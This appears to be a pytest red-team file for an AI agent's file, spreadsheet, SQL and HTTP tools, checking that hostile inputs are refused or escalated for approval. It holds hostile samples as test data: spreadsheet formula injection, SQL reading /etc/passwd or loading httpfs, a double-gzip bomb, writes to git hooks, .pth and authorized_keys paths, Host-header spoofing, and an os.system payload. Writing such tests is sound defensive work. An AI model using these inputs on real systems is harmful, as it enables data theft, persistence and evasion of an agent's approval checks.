"""Red team of the tools themselves (session 16): hostile workspace files and hostile data, on real files."""

from __future__ import annotations

import functools
import gzip
import io
import resource
import shutil
import socket
import ssl
import subprocess
import threading
import zipfile
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import openpyxl
import pytest

from gofer.config import Settings
from gofer.events import Risk
from gofer.tools.base import ToolContext, ToolError
from gofer.tools.documents import create_spreadsheet, query_data
from gofer.tools.files import edit_file, read_file, write_file
from gofer.tools.shell import OWN_FILES
from gofer.tools.web import http_request


@pytest.fixture
def ctx(tmp_path: Path) -> ToolContext:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ToolContext(run_id="r", session_id="s", workspace=ws)


async def test_edit_refuses_a_file_that_is_not_utf8_instead_of_rewriting_its_bytes(ctx: ToolContext) -> None:
    # A person's Latin-1 text (or any binary file with a readable stretch): a small edit must not turn every
    # byte UTF-8 cannot decode into U+FFFD across the whole file, quietly.
    original = "Café Müller;Straße 1\nprice: 10\n".encode("latin-1")
    (ctx.workspace / "contacts.txt").write_bytes(original)
    assert edit_file.judge_risk({"path": "contacts.txt", "old": "10", "new": "12"}, ctx).risk != Risk.CONSEQUENTIAL
    with pytest.raises(ToolError, match="not UTF-8"):
        await edit_file(ctx, {"path": "contacts.txt", "old": "10", "new": "12"})
    assert (ctx.workspace / "contacts.txt").read_bytes() == original

    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr("readme.txt", "version 1\n" * 50)
    (ctx.workspace / "bundle.zip").write_bytes(zipped.getvalue())
    with pytest.raises(ToolError, match="not UTF-8"):
        await edit_file(ctx, {"path": "bundle.zip", "old": "PK", "new": "PK"})
    assert (ctx.workspace / "bundle.zip").read_bytes() == zipped.getvalue()


async def test_edit_replacing_most_of_a_large_user_file_asks(ctx: ToolContext) -> None:
    # The judge read at most 1 MB and let anything larger through: a 1.5 MB file replaced whole did not ask.
    body = ("row,value\n" + "".join(f"{i},{i * 7}\n" for i in range(200_000))).encode()
    assert len(body) > 1_000_000
    (ctx.workspace / "ledger.csv").write_bytes(body)
    judgement = edit_file.judge_risk({"path": "ledger.csv", "old": body.decode(), "new": "emptied\n"}, ctx)
    assert judgement.risk == Risk.CONSEQUENTIAL and "replaces most" in judgement.reasons[0]
    small = edit_file.judge_risk({"path": "ledger.csv", "old": "5,35\n", "new": "5,36\n"}, ctx)
    assert small.risk != Risk.CONSEQUENTIAL


async def test_edit_of_a_file_too_large_to_hold_is_refused_by_name(ctx: ToolContext) -> None:
    # edit_file read the whole file into the host's memory, whatever its size.
    with open(ctx.workspace / "huge.log", "wb") as f:
        f.truncate(64_000_000)
    with pytest.raises(ToolError, match="too large to edit"):
        await edit_file(ctx, {"path": "huge.log", "old": "x", "new": "y"})


async def test_spreadsheet_cells_from_data_stay_text_not_formulas(ctx: ToolContext) -> None:
    # A CSV from the web carrying formulas: rows from a query are data, so a cell "=WEBSERVICE(...)" must
    # land as the text it was, not as a live formula in the person's workbook (nor a header as one).
    (ctx.workspace / "leads.csv").write_text(
        'name,"=HYPERLINK(""http://127.0.0.1:9/h"",""h"")"\n'
        'Ann,"=WEBSERVICE(""http://127.0.0.1:9/x?""&A2)"\n'
        "Cy,=Missing!A1+(\n"
        "Bob,=1+1\n"
    )
    spec = {"sheets": [{"name": "Leads", "data": {"sql": "SELECT * FROM 'leads.csv'"}},
                       {"name": "Mine", "rows": [["=1+2"]], "columns": [{"header": "sum"}]}]}
    result = await create_spreadsheet(ctx, {"path": "leads.xlsx", "spec": spec})
    assert result.data and result.data["problems"] == []
    wb = openpyxl.load_workbook(ctx.workspace / "leads.xlsx")
    leads = wb["Leads"]
    cells = [leads.cell(row=r, column=2) for r in (1, 2, 3, 4)]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert cells[1].value == '=WEBSERVICE("http://127.0.0.1:9/x?"&A2)'
    assert wb["Mine"]["A2"].data_type == "f"  # the model's own formulas still are formulas


async def test_write_file_over_a_user_file_still_asks(ctx: ToolContext) -> None:
    (ctx.workspace / "notes.md").write_text("mine")
    for path in ("notes.md", "./notes.md", "/workspace/notes.md", " notes.md ", "sub/../notes.md"):
        assert write_file.judge_risk({"path": path, "content": "x"}, ctx).risk == Risk.CONSEQUENTIAL, path


def _gzip_of_zeros(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    return b"".join([*(packer.compress(block) for _ in range(size >> 20)), packer.flush()])


@functools.cache
def _double_bomb() -> bytes:
    """300 MB of zeros gzipped twice: a few kB, which one read of the body expanded whole."""
    return gzip.compress(_gzip_of_zeros(300 << 20))


class _Files(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        body = b"import os; os.system('echo owned')\n"
        if self.path == "/host":
            body = f"host={self.headers.get('Host')}".encode()
        if self.path == "/double-bomb":
            self.send_response(200)
            self.send_header("Content-Encoding", "gzip, gzip")
            self.send_header("Content-Length", str(len(_double_bomb())))
            self.end_headers()
            self.wfile.write(_double_bomb())
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def files_server() -> Iterator[str]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Files)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()


async def test_a_download_over_a_user_file_or_into_a_hook_asks(tmp_path: Path, files_server: str) -> None:
    # save_to wrote over any workspace file, quietly: the person's data, or a git hook / .pth file that runs later.
    ws = tmp_path / "ws"
    (ws / "data").mkdir(parents=True)
    (ws / "data" / "sales.csv").write_text("region,units\nN,3\n")
    ctx = ToolContext(run_id="r", session_id="s", workspace=ws, settings=Settings(home=tmp_path))
    url = f"{files_server}/x"
    for target in ("data/sales.csv", ".git/hooks/pre-commit", ".venv/lib/python3.12/site-packages/evil.pth"):
        judgement = http_request.judge_risk({"url": url, "save_to": target}, ctx)
        assert judgement.risk == Risk.CONSEQUENTIAL, target
    assert http_request.judge_risk({"url": url, "save_to": "downloads/new.txt"}, ctx).risk == Risk.REVERSIBLE
    await http_request(ctx, {"url": url, "save_to": "downloads/new.txt"})
    own = ToolContext(run_id="r", session_id="s", workspace=ws, settings=Settings(home=tmp_path),
                      extras={OWN_FILES: frozenset({"downloads/new.txt"})})
    again = http_request.judge_risk({"url": url, "save_to": "downloads/new.txt"}, own)
    assert again.risk == Risk.REVERSIBLE  # downloading again over the run's own download stays quiet


@pytest.mark.parametrize("sql", [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('/etc/hostname')",
    "COPY (SELECT * FROM 'sales.csv') TO '/tmp/redteam19-out.csv'",
    "ATTACH '/tmp/redteam19.db' AS x",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access=true",
    "SELECT * FROM 'sales.csv'; SET lock_configuration=false",
    "SELECT * FROM '../outside.csv'",
    "SELECT * FROM '/workspace/../../etc/hosts.csv'",
])
async def test_query_data_sql_reaches_nothing_but_the_files_it_names(ctx: ToolContext, sql: str) -> None:
    # Held already: the files named in quotes are copied in, then DuckDB's external access is off and locked.
    (ctx.workspace / "sales.csv").write_text("region,units\nN,3\n")
    with pytest.raises(ToolError):
        await query_data(ctx, {"sql": sql})
    assert not Path("/tmp/redteam19-out.csv").exists() and not Path("/tmp/redteam19.db").exists()


async def test_missing_folders_and_overlong_names_get_clear_errors(ctx: ToolContext) -> None:
    # These escaped as a bare FileNotFoundError / OSError (the model saw "the tool failed").
    long = "a" * 300 + ".txt"
    with pytest.raises(ToolError, match="does not exist"):
        await read_file(ctx, {"path": "nodir/x.txt"})
    with pytest.raises(ToolError, match="does not exist"):
        await edit_file(ctx, {"path": "nodir/x.txt", "old": "a", "new": "b"})
    with pytest.raises(ToolError, match="name too long"):
        await read_file(ctx, {"path": long})
    with pytest.raises(ToolError, match="name too long"):
        await write_file(ctx, {"path": long, "content": "x"})
    with pytest.raises(ToolError, match="does not exist"):
        await query_data(ctx, {"sql": "SELECT * FROM 'nodir/x.csv'"})
    with pytest.raises(ToolError, match="does not exist"):
        await query_data(ctx, {"sql": "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')"})


async def test_a_host_header_naming_another_host_is_refused(tmp_path: Path, files_server: str) -> None:
    # The policy, the watch gate and the data-flow rules judge the URL's host; a Host header the model sets
    # chose another site on the same server (a CDN routes by it): a denied host was reached through an allowed one.
    port = files_server.rsplit(":", 1)[1]
    ctx = ToolContext(run_id="r", session_id="s", workspace=tmp_path / "ws",
                      settings=Settings(home=tmp_path, deny_domains=["localhost"]))
    with pytest.raises(ToolError, match="refused"):
        await http_request(ctx, {"url": f"http://localhost:{port}/host"})
    with pytest.raises(ToolError, match="Host header"):
        await http_request(ctx, {"url": f"{files_server}/host", "headers": {"host": f"localhost:{port}"}})
    for fronted in (f"localhost@127.0.0.1:{port}", f"127.0.0.1:{port}/x localhost"):
        with pytest.raises(ToolError, match="Host header"):
            await http_request(ctx, {"url": f"{files_server}/host", "headers": {"Host": fronted}})
    same = await http_request(ctx, {"url": f"{files_server}/host", "headers": {"Host": f"127.0.0.1:{port}"}})
    assert f"host=127.0.0.1:{port}" in same.text


async def test_a_doubly_compressed_bomb_is_not_expanded(tmp_path: Path, files_server: str) -> None:
    # "Content-Encoding: gzip, gzip": httpx decodes the outer layer chunk by chunk, then the inner one whole, so
    # a few kB became 300 MB in gofer's own memory before the 2 MB bound was looked at.
    ctx = ToolContext(run_id="r", session_id="s", workspace=tmp_path / "ws", settings=Settings(home=tmp_path))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ToolError, match="compressed more than once"):
        await http_request(ctx, {"url": f"{files_server}/double-bomb"})
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kB


@pytest.mark.parametrize("path", [".git//hooks/pre-commit", ".git/./hooks/pre-commit",
                                  "/workspace/.git//hooks/pre-push", "lib/evil.pth/", "lib/evil.pth ",
                                  "./.bashrc/", ".ssh//authorized_keys"])
async def test_a_path_spelled_oddly_that_runs_later_still_asks(ctx: ToolContext, path: str) -> None:
    # The judge matched the raw text: ".git//hooks/x" or "x.pth/" missed while the workspace wrote the normal path.
    (ctx.workspace / ".git" / "hooks").mkdir(parents=True)
    assert write_file.judge_risk({"path": path, "content": "x"}, ctx).risk == Risk.CONSEQUENTIAL
    assert edit_file.judge_risk({"path": path, "old": "a", "new": "b"}, ctx).risk == Risk.CONSEQUENTIAL
    written = await write_file(ctx, {"path": path, "content": "#!/bin/sh\n"})
    assert "//" not in written.artifacts[0].path and not written.artifacts[0].path.endswith((" ", "/"))


def _answer(conn: socket.socket | ssl.SSLSocket, port: int, heard: list[str]) -> None:
    with conn:
        request = conn.recv(65536).decode("latin-1")
        if request.startswith("GET /go "):
            conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{port}/plain\r\nContent-Length: 0\r\n"
                         "Connection: close\r\n\r\n".encode())
            return
        heard.append(request)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


@pytest.fixture
def tls_and_plain(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, list[str]]]:
    """One port speaking TLS (a self-signed certificate the client trusts) and plain HTTP, as a host may."""
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out",
                    str(cert), "-days", "1", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
                   check=True, capture_output=True)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(cert, key)
    listener = socket.create_server(("127.0.0.1", 0))
    port, heard = listener.getsockname()[1], []

    def accept() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            first = conn.recv(1, socket.MSG_PEEK)
            try:
                sock = tls.wrap_socket(conn, server_side=True) if first == b"\x16" else conn
            except (OSError, ssl.SSLError):
                continue
            threading.Thread(target=_answer, args=(sock, port, heard), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    yield port, heard
    listener.close()


async def test_a_redirect_from_https_to_plain_http_carries_no_headers(
        tmp_path: Path, tls_and_plain: tuple[int, list[str]]) -> None:
    # Same host and port, so the headers the model set (a key from the settings) went on in clear text.
    port, heard = tls_and_plain
    ctx = ToolContext(run_id="r", session_id="s", workspace=tmp_path / "ws", settings=Settings(home=tmp_path))
    result = await http_request(ctx, {"url": f"https://127.0.0.1:{port}/go",
                                      "headers": {"Authorization": "Bearer s3cret-key"}})
    assert "-> 200" in result.text and len(heard) == 1
    assert "s3cret-key" not in heard[0]
